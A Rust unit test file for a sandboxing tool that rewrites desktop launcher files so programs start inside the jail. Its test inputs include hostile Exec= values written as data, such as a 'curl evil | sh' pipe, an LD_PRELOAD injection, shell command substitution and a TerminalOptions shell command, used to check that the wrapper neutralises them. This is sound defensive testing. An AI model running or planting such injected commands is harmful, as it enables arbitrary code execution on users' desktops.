use super::rewrite::is_wrapper_text;
use super::*;
use std::path::Path;

const JAIL: &str = "/usr/bin/jail";

fn w(src: &str) -> Result<String, String> {
    wrap(
        src,
        "fox",
        Path::new(JAIL),
        Path::new("/usr/share/applications/fox.desktop"),
    )
}

fn execs(out: &str) -> Vec<&str> {
    out.lines()
        .filter_map(|l| l.strip_prefix("Exec="))
        .collect()
}

#[test]
fn quoting_follows_the_desktop_entry_spec() {
    assert_eq!(exec_quote("/usr/bin/jail"), "/usr/bin/jail");
    assert_eq!(exec_quote("/opt/my apps/jail"), "\"/opt/my apps/jail\"");
    assert_eq!(exec_quote("/opt/a$b"), "\"/opt/a\\\\$b\"");
    assert_eq!(exec_quote("/opt/100%"), "\"/opt/100%%\"");
    assert_eq!(exec_quote(""), "\"\"");
}

#[test]
fn wrap_keeps_field_codes_and_actions() {
    let src = "[Desktop Entry]\nName=Fox\nName[de]=Fuchs\nExec=fox %u\nTryExec=fox\nIcon=fox\nDBusActivatable=true\nActions=new;\n\n[Desktop Action new]\nName=New\nExec=fox --new-window %U\n";
    let out = w(src).unwrap();
    assert_eq!(
        execs(&out),
        [
            "/usr/bin/jail run --profile fox -- fox %u",
            "/usr/bin/jail run --profile fox -- fox --new-window %U"
        ],
        "{out}"
    );
    assert!(
        !out.contains("TryExec") && out.contains("Icon=fox\n") && out.contains("Name[de]=Fuchs\n")
    );
    assert!(!out.contains("DBusActivatable"));
    assert!(out.contains("X-Jail-Wrapper=true\n"));
    assert!(is_wrapper_text(&out));
    assert!(w("[Desktop Entry]\nType=Link\nURL=x\nExec=x\n").is_err());
    assert!(w("[Desktop Entry]\nType=Application\nURL=x\n").is_err());
}

/// Issue 12 item 4: whatever the source's Exec= starts with, the wrapper's command line
/// starts with exactly `JAIL run --profile APP --`.
#[test]
fn nothing_from_the_source_comes_before_the_separator() {
    for exec in [
        "/usr/bin/jail run --net host --bind / -- vlc %U",
        "\"/usr/bin/jail\" run --bind / -- vlc",
        "/usr/bin/jailx --steal",
        "/usr/bin/jail",
        "env LD_PRELOAD=/tmp/x.so vlc %U",
        "sh -c \"vlc; curl evil | sh\"",
        "vlc %U ; /usr/bin/evil",
        "vlc $(evil) `evil` && evil",
        "--profile=default vlc",
    ] {
        let out = w(&format!(
            "[Desktop Entry]\nType=Application\nExec={exec}\n[Desktop Action a]\nExec={exec}\n[Other]\nExec={exec}\n"
        ))
        .unwrap();
        let ex = execs(&out);
        // `[Other]` is not an allowlisted group: dropped with its Exec=.
        assert_eq!(ex.len(), 2, "{out}");
        for e in ex {
            let args = parse_exec(e).unwrap();
            let words: Vec<String> = args
                .iter()
                .map(|a| {
                    a.iter()
                        .map(|p| match p {
                            Piece::Text(t) => t.clone(),
                            Piece::Code(c) => format!("%{c}"),
                        })
                        .collect()
                })
                .collect();
            assert_eq!(
                &words[..5],
                ["/usr/bin/jail", "run", "--profile", "fox", "--"],
                "{exec:?} -> {e:?}"
            );
            // Shell syntax of the source is quoted: a launcher passing the line to `sh -c`
            // still runs only jail.
            for bad in [";", "|", "&&", "$(", "`"] {
                if let Some(i) = e.find(bad) {
                    let before = &e[..i];
                    assert!(
                        before.matches('"').count() % 2 == 1,
                        "{bad} unquoted in {e:?}"
                    );
                }
            }
        }
    }
}

#[test]
fn forged_markers_and_risky_keys_are_dropped() {
    let src = "[Desktop Entry]\nX-Jail-Wrapper=true\nX-Jail-Profile = default\nExec=/usr/bin/jail run --bind / -- vlc\nExec[de]=evil\nTryExec[de]=evil\nDBusActivatable = true\nDBusActivatable[de]=true\nX-KDE-SubstituteUID=true\nX-KDE-Username=root\n[Desktop Action a]\nDBusActivatable=true\nExec=vlc\n";
    let out = w(src).unwrap();
    assert_eq!(out.matches("X-Jail-Wrapper=").count(), 1, "{out}");
    assert_eq!(out.matches("X-Jail-Profile=").count(), 1, "{out}");
    assert!(out.contains("X-Jail-Profile=fox\n"), "{out}");
    for gone in [
        "Exec[de]",
        "TryExec[de]",
        "DBusActivatable",
        "X-KDE-Sub",
        "X-KDE-User",
    ] {
        assert!(!out.contains(gone), "{gone}: {out}");
    }
    assert_eq!(
        execs(&out)[0],
        "/usr/bin/jail run --profile fox -- /usr/bin/jail run --bind / -- vlc"
    );
    // Wrapping jail's own output again never trusts it: jail comes first again.
    let again = w(&out).unwrap();
    assert!(execs(&again)[0]
        .starts_with("/usr/bin/jail run --profile fox -- /usr/bin/jail run --profile fox --"));
}

/// Attack F3/F4: a launcher changes to `Path=` before running the wrapper (a profile granting
/// `${PWD}` would grant that folder) and KIO puts `TerminalOptions=` on the terminal's command
/// line outside the sandbox. Only the allowlisted keys and groups reach the wrapper.
#[test]
fn only_allowlisted_keys_and_groups_are_copied() {
    let src = "[Desktop Entry]\nType=Application\nName=Writer\nName[de]=Schreiber\nComment[fr]=c\nIcon=w\nTerminal=true\nTerminalOptions=-e sh -c 'touch /tmp/PWNED'\nPath=/home/u/.config/gh\nPath[de]=/home/u/.gnupg\nTryExec=writer\nX-KDE-RunOnDiscreteGpu=true\nX-GNOME-Autostart-Phase=x\nActions=a;\nMimeType=text/plain;\nExec=writer %U\n[Desktop Action a]\nName=New\nPath=/home/u/.ssh\nExec=writer --new\n[X-KDE Extra]\nExec=evil\nName=evil\n";
    let out = w(src).unwrap();
    for gone in [
        "Path",
        "TerminalOptions",
        "PWNED",
        "TryExec",
        "X-KDE",
        "X-GNOME",
        "evil",
        ".gnupg",
        ".ssh",
    ] {
        assert!(!out.contains(gone), "{gone}: {out}");
    }
    for kept in [
        "Type=Application\n",
        "Name=Writer\n",
        "Name[de]=Schreiber\n",
        "Comment[fr]=c\n",
        "Icon=w\n",
        "Terminal=true\n",
        "Actions=a;\n",
        "MimeType=text/plain;\n",
        "[Desktop Action a]\nName=New\n",
    ] {
        assert!(out.contains(kept), "{kept}: {out}");
    }
    assert_eq!(
        execs(&out),
        [
            "/usr/bin/jail run --profile fox -- writer %U",
            "/usr/bin/jail run --profile fox -- writer --new"
        ]
    );
}

#[test]
fn exec_parsing_and_writing_round_trip() {
    let cases: &[(&str, &str)] = &[
        ("fox %U", "fox %U"),
        ("fox --file=%f", "fox --file=%f"),
        ("\"/opt/my app/fox\" %F", "\"/opt/my app/fox\" %F"),
        ("sh -c 'echo a; echo b' %u", "sh -c \"echo a; echo b\" %u"),
        ("fox \"a\\\\\\\\$b\"", "fox \"a\\\\\\\\\\\\$b\""),
        ("fox 100%%", "fox \"100%%\""),
        ("sh -c \"fox %f\"", "sh -c \"fox \"%f"),
        ("fox\\sbar", "fox bar"),
        ("fox #comment", "fox"),
        ("fox \"\"", "fox \"\""),
    ];
    for (src, want) in cases {
        let got = unparse_exec(&parse_exec(src).unwrap());
        assert_eq!(&got, want, "{src}");
        // Stable: parsing the output gives the same arguments.
        assert_eq!(parse_exec(&got).unwrap(), parse_exec(src).unwrap(), "{src}");
    }
    for bad in [
        "", "   ", "\"fox", "fox 'a", "fox %z", "fox %", "fox\\", "fox\\x", "\"\" fox",
    ] {
        assert!(parse_exec(bad).is_err(), "{bad:?} accepted");
    }
}

#[test]
fn malformed_files_are_refused_with_their_line() {
    for (src, what) in [
        ("Exec=x\n[Desktop Entry]\nExec=x\n", ":1: a key before"),
        ("[Desktop Entry]\nExec=x\ngarbage\n", ":3: a line that"),
        (
            "[Desktop Entry]\nExec=x\n[Desktop Entry]\nExec=y\n",
            ":3: a second",
        ),
        ("[Desktop Entry]x\nExec=x\n", ":1: not a valid group"),
        (
            "[Desktop Entry]\nExec=\"x\n",
            ":2: Exec= in [Desktop Entry]",
        ),
        ("[Desktop Entry]\nExec=\n", ":2: Exec="),
        ("[Desktop Entry]\nEx ec=x\n", ":2: a malformed key"),
        ("[Desktop Entry]\nName=x\n", "has no Exec="),
    ] {
        let e = w(src).unwrap_err();
        assert!(e.contains(what), "{src:?}: {e}");
    }
    // Blank lines, comments and indented keys are fine.
    let out = w("# c\n\n[Desktop Entry]\n  Exec = fox\n").unwrap();
    assert_eq!(execs(&out), ["/usr/bin/jail run --profile fox -- fox"]);
}

#[test]
fn sources_that_are_not_small_text_files_are_refused() {
    let d = std::env::temp_dir().join(format!("jail-unit-desktop-{}", std::process::id()));
    std::fs::create_dir_all(&d).unwrap();
    let big = d.join("big.desktop");
    std::fs::write(&big, vec![b'#'; (MAX_DESKTOP_FILE + 1) as usize]).unwrap();
    let bin = d.join("bin.desktop");
    std::fs::write(&bin, b"[Desktop Entry]\nExec=\xff\xfe\n").unwrap();
    let nul = d.join("nul.desktop");
    std::fs::write(&nul, b"[Desktop Entry]\nExec=a\0b\n").unwrap();
    let link = d.join("zero.desktop");
    std::os::unix::fs::symlink("/dev/zero", &link).unwrap();
    let ok = d.join("ok.desktop");
    std::fs::write(&ok, "[Desktop Entry]\nExec=a\n").unwrap();
    let to_ok = d.join("to-ok.desktop");
    std::os::unix::fs::symlink(&ok, &to_ok).unwrap();
    let r = (
        read_source(&big),
        read_source(&bin),
        read_source(&nul),
        read_source(&link),
        read_source(&to_ok),
    );
    std::fs::remove_dir_all(&d).unwrap();
    assert!(r.0.unwrap_err().contains("larger than"));
    assert!(r.1.unwrap_err().contains("not UTF-8"));
    assert!(r.2.unwrap_err().contains("NUL"));
    assert!(r.3.unwrap_err().contains("not a regular file"));
    assert_eq!(r.4.unwrap(), "[Desktop Entry]\nExec=a\n");
}

#[test]
fn marker_is_a_whole_key_in_the_entry_group() {
    assert!(is_wrapper_text("[Desktop Entry]\nX-Jail-Wrapper = true\n"));
    assert!(!is_wrapper_text("[Desktop Entry]\nX-Jail-Wrapperx=true\n"));
    assert!(!is_wrapper_text("[Desktop Entry]\nX-Jail-Wrapper=truex\n"));
    assert!(!is_wrapper_text("[Other]\nX-Jail-Wrapper=true\n"));
    assert!(!is_wrapper_text("[Desktop Entry]\n#X-Jail-Wrapper=true\n"));
}

#[test]
fn wrappers_call_the_jail_on_path_not_the_build_tree() {
    use std::os::unix::fs::PermissionsExt;
    let d = std::env::temp_dir().join(format!("jail-unit-launcher-{}", std::process::id()));
    let (build, bin, other) = (d.join("target/release"), d.join("bin"), d.join("other"));
    for (dir, mode) in [(&build, 0o755), (&bin, 0o755), (&other, 0o644)] {
        std::fs::create_dir_all(dir).unwrap();
        std::fs::write(dir.join("jail"), "#!/bin/sh\n").unwrap();
        std::fs::set_permissions(dir.join("jail"), std::fs::Permissions::from_mode(mode)).unwrap();
    }
    let me = build.join("jail");
    let path = |dirs: &[&Path]| std::env::join_paths(dirs).unwrap();
    let r = (
        // From the build tree: the installed one on $PATH (a non-executable `jail` is skipped).
        launcher::launcher_for(&me, Some(&path(&[&other, &bin]))),
        // This binary is on $PATH, behind another jail: this one, named through $PATH.
        launcher::launcher_for(&bin.join("jail"), Some(&path(&[&build, &bin]))),
        // No jail on $PATH (or no $PATH, or only relative entries): this binary.
        launcher::launcher_for(&me, Some(&path(&[&other]))),
        launcher::launcher_for(&me, None),
        launcher::launcher_for(&me, Some(std::ffi::OsStr::new("target/release:."))),
    );
    std::fs::remove_dir_all(&d).unwrap();
    assert_eq!(r.0, bin.join("jail"));
    assert_eq!(r.1, bin.join("jail"));
    assert_eq!((r.2, r.3, r.4), (me.clone(), me.clone(), me));
}
